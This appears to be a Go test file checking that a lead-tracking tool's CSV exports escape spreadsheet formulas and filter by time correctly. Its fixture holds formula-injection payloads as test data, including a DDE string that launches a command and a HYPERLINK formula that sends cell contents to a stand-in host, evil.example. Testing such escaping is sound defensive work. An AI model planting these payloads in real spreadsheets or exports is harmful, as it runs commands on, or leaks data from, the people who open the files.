package store_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/leadbot/leadbot/store"
)

// exportFixture is a small history written out in SQL, with the times the exports filter and sort
// on: three reps, three leads, a model, the scores of two leads over three months, three verdicts
// (one undone) and three outcomes. Text that a spreadsheet would run as a formula comes from the
// CRM (lead names, companies, ids) and from Slack (rep names, notes).
const exportFixture = `
INSERT INTO reps (email, name) VALUES
    ('boss@example.com', 'Boss'),
    ('ann@example.com', 'Ann'),
    ('-dash@example.com', '=cmd|'' /C calc''!A0');
INSERT INTO leads (external_id, name, company, owner_id) VALUES
    ('L1', 'Jane Roe', 'Acme = Best', (SELECT id FROM reps WHERE email = 'ann@example.com')),
    ('L2', '=HYPERLINK("https://evil.example/?"&A1,"Click")', '+Globex', (SELECT id FROM reps WHERE email = '-dash@example.com')),
    (E'\tL3', 'Kim Li', 'Initech', NULL);
INSERT INTO models (kind, status, artifact) VALUES ('logreg', 'champion', '\x00');

INSERT INTO scores (lead_id, model_version, probability, scored_at)
SELECT l.id, s.model_version, s.probability, s.scored_at::timestamptz
FROM (VALUES ('L1', NULL::int, 0.2, '2024-01-01 00:00:00+00'),
             ('L1', 1, 0.5, '2024-02-01 00:00:00+00'),
             ('L1', 1, 0.9, '2024-03-01 12:00:00+00'),
             ('L2', 1, 0.1, '2024-03-05 08:00:00+00')) s (lead, model_version, probability, scored_at)
JOIN leads l ON l.external_id = s.lead;
UPDATE leads l SET score = s.probability, score_model = s.model_version, scored_at = s.scored_at
FROM (SELECT DISTINCT ON (lead_id) * FROM scores ORDER BY lead_id, scored_at DESC) s WHERE s.lead_id = l.id;

INSERT INTO feedback (lead_id, rep_id, verdict, reason_code, note, account_wide, probability, model_version, created_at, undone_at)
SELECT l.id, r.id, f.verdict, f.reason_code, f.note, f.account_wide, f.probability, f.model_version,
       f.created_at::timestamptz, f.undone_at::timestamptz
FROM (VALUES ('L1', 'ann@example.com', 1, NULL, '', false, 0.42, 1, '2024-01-10 09:00:00+00', NULL),
             ('L2', 'ann@example.com', -1, 'no_budget', '@SUM(1+1)', true, NULL, NULL, '2024-02-10 10:30:00.123456+01', '2024-02-11 08:00:00+00'),
             ('L2', 'boss@example.com', -1, 'bad_data', E'\rline one\nline two', false, 0.25, NULL, '2024-03-01 00:00:00+00', NULL))
     f (lead, rep, verdict, reason_code, note, account_wide, probability, model_version, created_at, undone_at)
JOIN leads l ON l.external_id = f.lead
JOIN reps r ON r.email = f.rep;

INSERT INTO outcomes (lead_id, outcome, occurred_at, amount)
SELECT l.id, o.outcome, o.occurred_at::timestamptz, o.amount
FROM (VALUES ('L1', 'won', '2024-02-15 00:00:00+00', 1200.5),
             ('L2', 'lost', '2024-03-01 00:00:00+00', -300),
             (E'\tL3', 'disqualified', '2024-01-20 00:00:00+00', NULL)) o (lead, outcome, occurred_at, amount)
JOIN leads l ON l.external_id = o.lead;
`

func exportStore(t *testing.T) *store.Store {
	t.Helper()
	st := newStore(t)
	if _, err := st.DB().Exec(exportFixture); err != nil {
		t.Fatal(err)
	}
	return st
}

// export runs one export through a csv.Writer, as the command does, and reads the file back.
func export(t *testing.T, fn func(context.Context, time.Time, func([]string) error) (int, error), since time.Time) [][]string {
	t.Helper()
	var buf bytes.Buffer
	w := csv.NewWriter(&buf)
	n, err := fn(context.Background(), since, w.Write)
	if err != nil {
		t.Fatal(err)
	}
	w.Flush()
	if err := w.Error(); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatalf("the export is not CSV: %v\n%s", err, buf.String())
	}
	if n != len(recs)-1 {
		t.Errorf("the export says %d rows, the file has %d besides the header", n, len(recs)-1)
	}
	return recs
}

func checkRecords(t *testing.T, what string, got, want [][]string) {
	t.Helper()
	if fmt.Sprintf("%q", got) != fmt.Sprintf("%q", want) {
		var b strings.Builder
		for _, r := range got {
			fmt.Fprintf(&b, "%q\n", r)
		}
		t.Errorf("%s:\n%swant:\n%q", what, b.String(), want)
	}
}

func TestExportFeedback(t *testing.T) {
	st := exportStore(t)
	header := []string{"given_at", "rep_email", "rep_name", "lead_id", "lead_name", "company", "verdict",
		"reason_code", "reason_label", "note", "account_wide", "score_at_the_time", "model_version", "undone_at"}
	l2 := `'=HYPERLINK("https://evil.example/?"&A1,"Click")`
	all := [][]string{header,
		{"2024-01-10T09:00:00Z", "ann@example.com", "Ann", "L1", "Jane Roe", "Acme = Best", "up", "", "", "", "false", "0.42", "1", ""},
		// Times are UTC to the second; the undone verdict is there with its undone_at.
		{"2024-02-10T09:30:00Z", "ann@example.com", "Ann", "L2", l2, "'+Globex", "down", "no_budget", "No budget", "'@SUM(1+1)", "true", "", "", "2024-02-11T08:00:00Z"},
		// A score from the prior has no model version.
		{"2024-03-01T00:00:00Z", "boss@example.com", "Boss", "L2", l2, "'+Globex", "down", "bad_data", "Bad data", "'\rline one\nline two", "false", "0.25", "", ""},
	}
	checkRecords(t, "all feedback", export(t, st.ExportFeedback, time.Time{}), all)
	checkRecords(t, "feedback since 1 Feb", export(t, st.ExportFeedback, day("2024-02-01")), [][]string{header, all[2], all[3]})
	// since is inclusive, and compares instants whatever the zone it is given in.
	checkRecords(t, "feedback since 10:30 in Paris", export(t, st.ExportFeedback, time.Date(2024, 2, 10, 10, 30, 0, 0, time.FixedZone("CET", 3600))),
		[][]string{header, all[2], all[3]})
	checkRecords(t, "feedback since 2025", export(t, st.ExportFeedback, day("2025-01-01")), [][]string{header})
}

func TestExportScores(t *testing.T) {
	st := exportStore(t)
	header := []string{"scored_at", "lead_id", "lead_name", "company", "owner_email", "probability", "model_version"}
	l1 := []string{"L1", "Jane Roe", "Acme = Best", "ann@example.com"}
	l2 := []string{"L2", `'=HYPERLINK("https://evil.example/?"&A1,"Click")`, "'+Globex", "'-dash@example.com"}
	row := func(at string, lead []string, p, v string) []string {
		return append(append([]string{at}, lead...), p, v)
	}
	// The current score of each scored lead (the unscored L3 is not there).
	current := [][]string{header,
		row("2024-03-01T12:00:00Z", l1, "0.9", "1"),
		row("2024-03-05T08:00:00Z", l2, "0.1", "1"),
	}
	checkRecords(t, "current scores", export(t, st.ExportScores, time.Time{}), current)
	checkRecords(t, "current scores since 2 March", export(t, st.ExportScores, day("2024-03-02")), [][]string{header, current[2]})

	history := [][]string{header,
		row("2024-01-01T00:00:00Z", l1, "0.2", ""),
		row("2024-02-01T00:00:00Z", l1, "0.5", "1"),
		row("2024-03-01T12:00:00Z", l1, "0.9", "1"),
		row("2024-03-05T08:00:00Z", l2, "0.1", "1"),
	}
	checkRecords(t, "score history", export(t, st.ExportScoreHistory, time.Time{}), history)
	checkRecords(t, "score history since 1 Feb", export(t, st.ExportScoreHistory, day("2024-02-01")), [][]string{header, history[2], history[3], history[4]})
}

func TestExportOutcomes(t *testing.T) {
	st := exportStore(t)
	header := []string{"occurred_at", "lead_id", "lead_name", "company", "owner_email", "outcome", "amount", "score_before_outcome"}
	all := [][]string{header,
		// Never scored, no amount, no owner; the id starts with a tab.
		{"2024-01-20T00:00:00Z", "'\tL3", "Kim Li", "Initech", "", "disqualified", "", ""},
		// Scored 0.2, 0.5 then 0.9 after it was won: what leadbot said before was 0.5.
		{"2024-02-15T00:00:00Z", "L1", "Jane Roe", "Acme = Best", "ann@example.com", "won", "1200.50", "0.5"},
		// Scored only after it was lost. A negative amount is a number, not a formula.
		{"2024-03-01T00:00:00Z", "L2", `'=HYPERLINK("https://evil.example/?"&A1,"Click")`, "'+Globex", "'-dash@example.com", "lost", "-300.00", ""},
	}
	checkRecords(t, "outcomes", export(t, st.ExportOutcomes, time.Time{}), all)
	checkRecords(t, "outcomes since 1 Feb", export(t, st.ExportOutcomes, day("2024-02-01")), [][]string{header, all[2], all[3]})
}

func TestExportFormulaEscaping(t *testing.T) {
	st := newStore(t)
	// Every character a spreadsheet starts a formula with, at the start of each kind of text.
	starts := []string{"=", "+", "-", "@", "\t", "\r"}
	for i, c := range starts {
		if _, err := st.DB().Exec(`INSERT INTO leads (external_id, name, company) VALUES ($1, $2, $3)`,
			c+"ID"+fmt.Sprint(i), c+"1+1", c+"Corp"); err != nil {
			t.Fatal(err)
		}
	}
	// Not at the start, a sign is just text.
	if _, err := st.DB().Exec(`INSERT INTO leads (external_id, name, company) VALUES ('X-1', 'a=b', 'A+B @ C')`); err != nil {
		t.Fatal(err)
	}
	if _, err := st.DB().Exec(`
		INSERT INTO scores (lead_id, probability, scored_at) SELECT id, 0.5, '2023-12-01 00:00:00+00' FROM leads;
		INSERT INTO outcomes (lead_id, outcome, occurred_at, amount) SELECT id, 'lost', '2024-01-01 00:00:00+00', -1 FROM leads`); err != nil {
		t.Fatal(err)
	}
	recs := export(t, st.ExportOutcomes, time.Time{})
	if len(recs) != len(starts)+2 {
		t.Fatalf("%d records, want %d", len(recs), len(starts)+2)
	}
	byID := map[string][]string{}
	for _, r := range recs[1:] {
		byID[r[1]] = r
	}
	for i, c := range starts {
		id := "'" + c + "ID" + fmt.Sprint(i)
		r, ok := byID[id]
		if !ok {
			t.Errorf("no row with lead_id %q: %q", id, recs)
			continue
		}
		if r[2] != "'"+c+"1+1" || r[3] != "'"+c+"Corp" {
			t.Errorf("%q: lead_name %q, company %q: want them behind an apostrophe", c, r[2], r[3])
		}
		// The amount and the score are leadbot's own numbers: never escaped.
		if r[0] != "2024-01-01T00:00:00Z" || r[6] != "-1.00" || r[7] != "0.5" {
			t.Errorf("%q: occurred_at %q, amount %q, score %q", c, r[0], r[6], r[7])
		}
	}
	if r := byID["X-1"]; r == nil || r[2] != "a=b" || r[3] != "A+B @ C" {
		t.Errorf("text with a sign inside was changed: %q", r)
	}
}

func TestExportStopsOnEmitError(t *testing.T) {
	st := exportStore(t)
	stop := errors.New("disk full")
	for name, fn := range map[string]func(context.Context, time.Time, func([]string) error) (int, error){
		"feedback": st.ExportFeedback, "scores": st.ExportScoreHistory, "outcomes": st.ExportOutcomes,
	} {
		var calls int
		n, err := fn(context.Background(), time.Time{}, func([]string) error {
			if calls++; calls == 3 { // the header, a row, then the failure
				return stop
			}
			return nil
		})
		if !errors.Is(err, stop) || n != 1 || calls != 3 {
			t.Errorf("%s: n %d, err %v after %d calls; want 1 row, then the writer's error and nothing more", name, n, err, calls)
		}
	}
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := st.ExportFeedback(ctx, time.Time{}, func([]string) error { return nil }); !errors.Is(err, context.Canceled) {
		t.Errorf("cancelled export: %v, want context.Canceled", err)
	}
}
